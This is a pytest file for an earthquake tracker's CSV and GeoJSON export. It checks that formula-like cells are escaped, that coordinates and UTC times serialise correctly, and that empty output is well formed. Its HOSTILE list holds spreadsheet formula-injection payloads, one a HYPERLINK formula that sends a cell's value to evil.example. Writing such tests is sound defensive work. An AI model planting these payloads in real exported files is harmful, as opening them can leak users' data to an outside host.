"""CSV that a spreadsheet cannot run, and GeoJSON a map can read."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pandas as pd

from tracker.export import to_csv, to_geojson
from tracker.model import Event, events_to_frame

UTC = dt.timezone.utc
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR"]


def _frame() -> pd.DataFrame:
    df = events_to_frame([
        Event(5.1, event_id=f"e{i}", place=text, longitude=-121.6, latitude=23.8, depth_km=None,
              time_utc=dt.datetime(2024, 4, 2, 23, 58, 9, tzinfo=UTC))
        for i, text in enumerate(HOSTILE)
    ] + [Event(4.0, event_id="plain", place="Hualien", time_text="-")])
    df.insert(0, "name", [*HOSTILE, "news.txt"])
    return df


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_formula_cells_in_text_columns_become_quoted_text() -> None:
    rows = _read(to_csv(_frame()))
    assert [r["place"] for r in rows] == ["'" + h for h in HOSTILE] + ["Hualien"]
    assert [r["name"] for r in rows] == ["'" + h for h in HOSTILE] + ["news.txt"]
    assert rows[-1]["time_text"] == "'-"


def test_numbers_stay_numbers_and_times_are_iso_utc() -> None:
    rows = _read(to_csv(_frame()))
    assert rows[0]["longitude"] == "-121.6"
    assert float(rows[0]["longitude"]) == -121.6
    assert rows[0]["time_utc"] == "2024-04-02T23:58:09Z"
    assert rows[-1]["time_utc"] == ""


def test_geojson_points_are_lon_lat_depth_and_unlocated_rows_have_null_geometry() -> None:
    df = events_to_frame([
        Event(7.4, event_id="a", longitude=121.67, latitude=23.77, depth_km=15.5,
              time_utc=dt.datetime(2024, 4, 2, 23, 58, 9, tzinfo=UTC)),
        Event(5.0, event_id="b", longitude=-70.5, latitude=-33.2),
        Event(4.2, event_id="c", place="off the coast"),
    ])
    fc = json.loads(to_geojson(df))
    assert fc["type"] == "FeatureCollection"
    a, b, c = fc["features"]
    assert a["geometry"] == {"type": "Point", "coordinates": [121.67, 23.77, 15.5]}
    assert a["properties"]["time_utc"] == "2024-04-02T23:58:09Z"
    assert a["properties"]["magnitude"] == 7.4
    assert b["geometry"]["coordinates"] == [-70.5, -33.2]
    assert c["geometry"] is None
    assert c["properties"]["depth_km"] is None and c["properties"]["place"] == "off the coast"
    assert [f["id"] for f in fc["features"]] == ["a", "b", "c"]
    assert "NaN" not in to_geojson(df)


def test_empty_exports_are_still_well_formed() -> None:
    empty = events_to_frame([])
    assert _read(to_csv(empty)) == []
    assert to_csv(empty).startswith("event_id,source,magnitude")
    assert json.loads(to_geojson(empty)) == {"type": "FeatureCollection", "features": []}
